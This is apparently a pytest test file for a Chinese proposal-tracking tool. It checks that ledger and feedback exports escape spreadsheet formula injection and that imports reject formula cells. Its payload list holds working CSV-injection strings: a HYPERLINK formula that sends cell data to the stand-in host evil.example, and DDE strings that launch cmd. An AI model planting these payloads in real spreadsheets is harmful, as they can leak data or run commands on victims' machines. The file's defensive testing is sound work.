"""Formula injection (issue 18): what a user wrote never becomes a live formula in a spreadsheet.

Every CSV and XLSX the tool writes (the ledger export, the feedback template) goes through one
rule for user text (office.py): in XLSX the text is kept intact as a string cell; in CSV a cell
starting with = + - @ tab or CR gets a leading apostrophe (OWASP). Imports refuse formulas in the
cells they take values from, naming the row and the column, and change nothing.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import yaml
from conftest import copy_campaign

from jianyan.render.office import csv_cell, formula_like, xlsx_bytes

ITEM = "submissions/2021/minge/2021-minge-001.md"
RECORD = "feedback/2021/2021-minge-001.yaml"
OLD_TITLE = "关于建立黄河山东段市际横向生态保护补偿机制的建议"

# OWASP's examples and their relatives: each must come out as text.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def hostile_campaign(root: Path, title: str, department: str) -> Path:
    """The sample campaign with one item's title and one open handling department set to attack text."""
    copy_campaign(root)
    item = root / ITEM
    item.write_text(item.read_text(encoding="utf-8").replace(
        f"title: {OLD_TITLE}", "title: " + _yaml_quote(title)), encoding="utf-8")
    rec = root / RECORD
    text = rec.read_text(encoding="utf-8")
    text = text.replace("- department: 省生态环境厅", "- department: " + _yaml_quote(department))
    text = text.replace("departments: [省财政厅, 省生态环境厅]", f"departments: [省财政厅, {_yaml_quote(department)}]")
    rec.write_text(text, encoding="utf-8")
    return root


def _yaml_quote(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + re.sub(r"[\x00-\x1f]", lambda m: f"\\x{ord(m.group()):02x}", escaped) + '"'


def csv_cells(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(path: Path):
    from openpyxl import load_workbook
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


# --- the rule -----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_makes_every_trigger_text(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["关于加快……的建议", "2021-03-11", "省财政厅", "", "a=b", "'=1+1", 0, -3, 12.5, None])
def test_csv_cell_leaves_ordinary_values_and_numbers_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_keeps_user_text_as_a_string_cell(payload):
    from openpyxl import load_workbook
    data = xlsx_bytes([("表", ["标题", "数"], [[payload, -3], ["#N/A", 5]], {})])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cell, number = ws["A2"], ws["B2"]
    assert (cell.data_type, cell.value) == ("s", payload)  # intact, as a string
    assert (number.data_type, number.value) == ("n", -3)  # a number stays a number
    assert (ws["A3"].data_type, ws["A3"].value) == ("s", "#N/A")  # not an error cell either


def test_control_characters_do_not_break_an_xlsx_export(tmp_path, cli):
    """XML cannot carry C0 controls: openpyxl refused the whole workbook; the cell shows U+FFFD instead."""
    root = hostile_campaign(tmp_path / "c", "关于\x01加快\x1f建设的建议", "省生态环境厅")
    out = tmp_path / "台账.xlsx"
    res = cli(root, "export", "--format", "xlsx", "--to", "2021-12-31", "-o", str(out))
    assert res.code == 0, res
    assert "关于\ufffd加快\ufffd建设的建议" in {c.value for c in xlsx_cells(out)}


@pytest.mark.parametrize("text,expected", [
    ("=1+1", True), ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True), ("-2+3+cmd|' /C calc'!A0", True),
    ("- 已完成", True), ("\t=1+1", True), (" =1", True), ("-3", False), ("+5", False), ("12.5%", False),
    ("-3.5", False), ("2021-06-20", False), ("联调完成", False), ("'=1+1", False), ("", False),
])
def test_formula_like(text, expected):
    assert formula_like(text) is expected


# --- exports ------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[3], PAYLOADS[4]])
def test_ledger_export_csv_and_xlsx_hold_the_title_as_text(tmp_path, cli, payload):
    root = hostile_campaign(tmp_path / "c", payload, "省生态环境厅")
    out = tmp_path / "台账.csv"
    assert cli(root, "export", "--format", "csv", "--to", "2021-12-31", "-o", str(out)).code == 0
    rows = csv_cells(out)
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(r[1] == "'" + payload for r in rows)
    out = tmp_path / "台账.xlsx"
    assert cli(root, "export", "--format", "xlsx", "--to", "2021-12-31", "-o", str(out)).code == 0
    cells = xlsx_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == payload and c.data_type == "s" for c in cells)


def test_normal_export_is_unchanged_by_the_guard(tmp_path, cli):
    """No cell of the sample ledger starts with a trigger, so the rule changes nothing there."""
    root = copy_campaign(tmp_path / "c")
    out = tmp_path / "台账.csv"
    assert cli(root, "export", "--format", "csv", "--to", "2021-12-31", "-o", str(out)).code == 0
    assert not [c for r in csv_cells(out) for c in r if c.startswith("'")]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_feedback_template_holds_titles_and_departments_as_text(tmp_path, cli, suffix):
    title, dept = PAYLOADS[0], "@SUM(1+1)*cmd|' /C calc'!A0"
    root = hostile_campaign(tmp_path / "c", title, dept)
    out = tmp_path / f"进展表.{suffix}"
    res = cli(root, "feedback", "template", "--all", str(out))
    assert res.code == 0, res
    if suffix == "csv":
        rows = csv_cells(out)
        assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert ["2021-minge-001", "'" + title, "'" + dept] in [r[:3] for r in rows]
    else:
        cells = xlsx_cells(out)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert {title, dept} <= {c.value for c in cells if c.data_type == "s"}


# --- imports ------------------------------------------------------------------------------

def snapshot(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted((root / "feedback").rglob("*"))
            if p.is_file()}


def reopened(root: Path) -> Path:
    """The sample campaign with 省生态环境厅's task on 2021-minge-001 open again."""
    copy_campaign(root)
    rec = root / RECORD
    text = rec.read_text(encoding="utf-8")
    head, tail = text.split("- department: 省生态环境厅", 1)
    tail = re.sub(r"\n    state: done\n    closed: [^\n]*\n    result: [^\n]*", "", tail, count=1)
    tail = re.sub(r"\n      - date: 2021-05-26\n        percent: 100\n        note: [^\n]*", "", tail, count=1)
    rec.write_text(head + "- department: 省生态环境厅" + tail, encoding="utf-8")
    return root


HEADER = ["信息编号", "承办单位", "进展日期", "办理进度(%)", "进展情况", "办理状态"]
GOOD = ["2021-minge-001", "省生态环境厅", "2021-06-20", "90", "联调完成", "办理中"]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.mark.parametrize("column,payload", [
    (1, '=HYPERLINK("http://evil.example/?x="&A1,"点我")'),
    (1, "@SUM(1+1)"),
    (4, "=1+1"),
    (4, "+cmd|' /C calc'!A0"),
    (4, "-2+3+cmd|' /C calc'!A0"),
    (4, "\t@SUM(A1)"),
    (3, "=50+40"),
    (2, "=TODAY()"),
])
def test_csv_import_refuses_a_formula_with_row_and_column(tmp_path, cli, column, payload):
    root = reopened(tmp_path / "c")
    before = snapshot(root)
    row = list(GOOD)
    row[column] = payload
    sheet = write_csv(tmp_path / "进展.csv", [HEADER, list(GOOD), row])
    res = cli(root, "feedback", "import", str(sheet))
    assert res.code == 1, res
    line = next(x for x in res.err.splitlines() if "第 3 行" in x)
    assert HEADER[column] in line and "公式" in line, res.err
    assert "第 2 行" not in res.err
    assert snapshot(root) == before


def test_csv_import_takes_numbers_with_a_sign_and_escaped_text(tmp_path, cli):
    """``+90`` is a number, and a note the template escaped (``'-…``) is text, not a formula."""
    root = reopened(tmp_path / "c")
    row = list(GOOD)
    row[3], row[4] = "+90", "'- 已完成联调"
    sheet = write_csv(tmp_path / "进展.csv", [HEADER, row])
    res = cli(root, "feedback", "import", str(sheet))
    assert res.code == 0, res
    rec = yaml.safe_load((root / RECORD).read_text(encoding="utf-8"))
    progress = next(h for h in rec["handling"] if h["department"] == "省生态环境厅")["progress"][-1]
    assert (str(progress["percent"]), progress["note"]) == ("90", "'- 已完成联调")


def _xlsx_sheet(path: Path, rows: list[list], formula_at: tuple[int, int] | None = None, formula: str = "") -> Path:
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    if formula_at:
        ws.cell(*formula_at).value = formula  # openpyxl stores a str starting with = as a formula
        assert ws.cell(*formula_at).data_type == "f"
    wb.save(path)
    return path


@pytest.mark.parametrize("col,formula", [(5, '=HYPERLINK("http://evil.example/?x="&A1,"点我")'), (4, "=45*2"),
                                         (2, '="省生态"&"环境厅"'), (3, "=TODAY()")])
def test_xlsx_import_refuses_a_formula_cell(tmp_path, cli, col, formula):
    root = reopened(tmp_path / "c")
    before = snapshot(root)
    sheet = _xlsx_sheet(tmp_path / "进展.xlsx", [HEADER, list(GOOD)], (2, col), formula)
    res = cli(root, "feedback", "import", str(sheet))
    assert res.code == 1, res
    assert "第 2 行" in res.err and HEADER[col - 1] in res.err and "公式" in res.err, res.err
    assert snapshot(root) == before


def test_template_with_hostile_text_imports_back(tmp_path, cli):
    """Our own template, escaped, is read back without tripping the formula rule on the pre-filled columns."""
    from openpyxl import load_workbook
    title = PAYLOADS[0]
    root = hostile_campaign(tmp_path / "c", title, "省生态环境厅")
    reopen = reopened(tmp_path / "r")
    (reopen / ITEM).write_bytes((root / ITEM).read_bytes())
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"进展.{suffix}"
        assert cli(reopen, "feedback", "template", str(out)).code == 0
        if suffix == "xlsx":
            wb = load_workbook(out)
            ws = wb.worksheets[0]
            row = next(r for r in ws.iter_rows(min_row=2) if r[2].value == "省生态环境厅")
            assert row[1].value == title and row[1].data_type == "s"
            row[6].value, row[7].value, row[8].value = "2021-06-20", 90, "联调完成"
            wb.save(out)
        else:
            rows = csv_cells(out)
            for r in rows:
                if r[2] == "省生态环境厅":
                    assert r[1] == "'" + title
                    r[6:9] = ["2021-06-21", "95", "试运行"]
            write_csv(out, rows)
        res = cli(reopen, "feedback", "import", str(out))
        assert res.code == 0, res
